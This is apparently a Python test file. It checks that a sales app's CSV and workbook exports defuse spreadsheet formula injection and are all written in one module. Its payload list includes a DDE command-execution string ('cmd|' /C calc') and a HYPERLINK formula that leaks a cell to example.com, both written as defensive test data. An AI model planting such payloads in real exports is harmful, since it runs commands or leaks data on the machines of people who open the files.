"""No export can carry a formula: all are written in one place, and that place takes the power from typed text."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from forecasting.exports import Sheet, table, workbook
from salesops.ui.exports import csv_text, safe_cell, xlsx_response
from tests.house.product import PACKAGES, ROOT

WRITERS = {
    "salesops/ui/exports.py": "the one place",
    "salesops/kernel/spreadsheet.py": "a workbook being imported, as CSV for the reader",
    "salesops/demo/exports.py": "the demo's CRM exports, to be imported",
    "opportunities/services/imports_": "rows on their way into the database (COPY)",
}
"""Who may write CSV or workbooks, and why what they write opens in no spreadsheet."""
EVIL = [
    '=HYPERLINK("https://example.com?"&A1,"deal")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "{=SUM(A1)}", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
]  # fmt: skip
HARMLESS_AS_TEXT = {"{=SUM(A1)}"}
"""An array formula only for a writer of workbooks that makes formulas of texts; plain text in CSV."""


def _writes_tables(path: Path) -> bool:
    """Whether the module calls csv.writer, csv.DictWriter or a Workbook of its own."""
    called = (
        node.func for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call)
    )
    names = {one.attr for one in called if isinstance(one, ast.Attribute)}
    return bool(names & {"writer", "DictWriter", "Workbook", "to_csv", "to_excel"})


def test_files_for_spreadsheets_are_written_in_one_place() -> None:
    found = {
        str(path.relative_to(ROOT))
        for name in PACKAGES
        for path in (ROOT / name).rglob("*.py")
        if _writes_tables(path)
    }
    assert "salesops/ui/exports.py" in found
    strange = sorted(name for name in found if not name.startswith(tuple(WRITERS)))
    assert not strange, f"Write these through salesops.ui.exports: {strange}"


@pytest.mark.parametrize("text", EVIL)
def test_typed_text_is_not_calculated(text: str) -> None:
    wanted = text if text in HARMLESS_AS_TEXT else f"'{text}"
    wanted = wanted.replace("=", "'=") if text[0] in "\t\r\n" else wanted
    assert safe_cell(text) == wanted
    (line,) = csv.reader(io.StringIO(csv_text([text], []).lstrip("\ufeff"), newline=""))
    assert line == [wanted]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("Press;=1+1", "Press;'=1+1"), ("Press; =1+1", "Press; '=1+1"), ('Press;"=1+1&"', "Press;\"'=1+1&\""),
        ("Press\n=1+1", "Press\n'=1+1"), ("Press\t@SUM(1)", "Press\t'@SUM(1)"), ("Press;-2+3", "Press;'-2+3"),
    ],
)  # fmt: skip
def test_nor_is_a_part_of_it_where_semicolons_or_tabs_part_cells(text: str, wanted: str) -> None:
    assert safe_cell(text) == wanted


@pytest.mark.parametrize(
    "text", ["Miller-Smith", "a = b", "Press; phase 2 - now", "call: +49 30 1", "x@example.com"]
)
def test_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_nested_values_are_defused_too() -> None:
    assert safe_cell(["=1"]) == '["=1"]'
    assert safe_cell(None) == ""


@pytest.mark.parametrize(
    ("number", "shown"),
    [
        (-5, "-5"),
        (Decimal("-5.10"), "-5.1"),
        (Decimal("-0.00"), "0"),
        (Decimal("1E+3"), "1000"),
        (-0.5, "-0.5"),
    ],
)
def test_numbers_stay_numbers(number: object, shown: str) -> None:
    assert safe_cell(number) == shown


def test_forecasts_and_their_facts_are_defused() -> None:
    sheet = Sheet(
        title="Forecast",
        head=["Name", "=2"],
        rows=[["=1", Decimal("-7.50")]],
        facts=[("Of", "@Ann"), ("", "")],
    )
    rows = list(csv.reader(io.StringIO(table(sheet).decode().lstrip("\ufeff"), newline="")))
    assert rows == [["Of", "'@Ann"], ["", ""], [], ["Name", "'=2"], ["'=1", "-7.5"]]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return "".join(file.read(name).decode() for name in file.namelist() if "worksheets/" in name)


def test_workbooks_hold_no_formula_and_no_link() -> None:
    texts = [*EVIL, "https://example.com"]
    response = xlsx_response("a.xlsx", "Sheet", texts, [texts])
    sheet = Sheet(title="Forecast", head=texts, rows=[texts], facts=[(text, text) for text in texts])
    for content in (response.content, workbook(sheet)):
        xml = _sheet_xml(content)
        assert "<f>" not in xml
        assert "<f " not in xml
        assert "hyperlink" not in xml
